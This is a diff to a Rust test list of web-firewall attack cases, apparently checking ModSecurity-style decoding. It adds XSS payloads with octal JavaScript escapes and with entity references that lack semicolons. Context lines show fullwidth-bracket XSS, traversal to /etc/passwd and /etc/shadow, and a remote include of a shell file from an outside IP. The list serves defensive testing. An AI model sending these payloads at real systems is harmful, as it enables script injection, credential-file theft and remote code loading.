@@ -36,6 +36,10 @@ pub const ATTACKS: &[Case] = &[
     // Fullwidth brackets (U+FF1C, U+FF1E): ASCII only after t:utf8toUnicode and the
     // best-fit map of t:urlDecodeUni, as ModSecurity reads them.
     get("xss: fullwidth brackets", "/comment?text=%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E"),
+    // Octal JavaScript escapes (`\74script\76`) and entity references without their `;`
+    // (`&#60script`): seen only through t:jsDecode and t:htmlEntityDecode as ModSecurity's.
+    get("xss: octal javascript escapes", "/comment?text=%5C74script%5C76alert(1)%5C74/script%5C76"),
+    get("xss: references without semicolons", "/comment?text=%26%2360script%26%2362alert(1)%26%2360/script%26%2362"),
     get("lfi: traversal", "/download?file=../../../../etc/passwd"),
     get("lfi: encoded traversal", "/download?file=..%2f..%2f..%2fetc%2fshadow"),
     get("rfi: remote include", "/page?include=http://198.51.100.7/shell.txt?"),
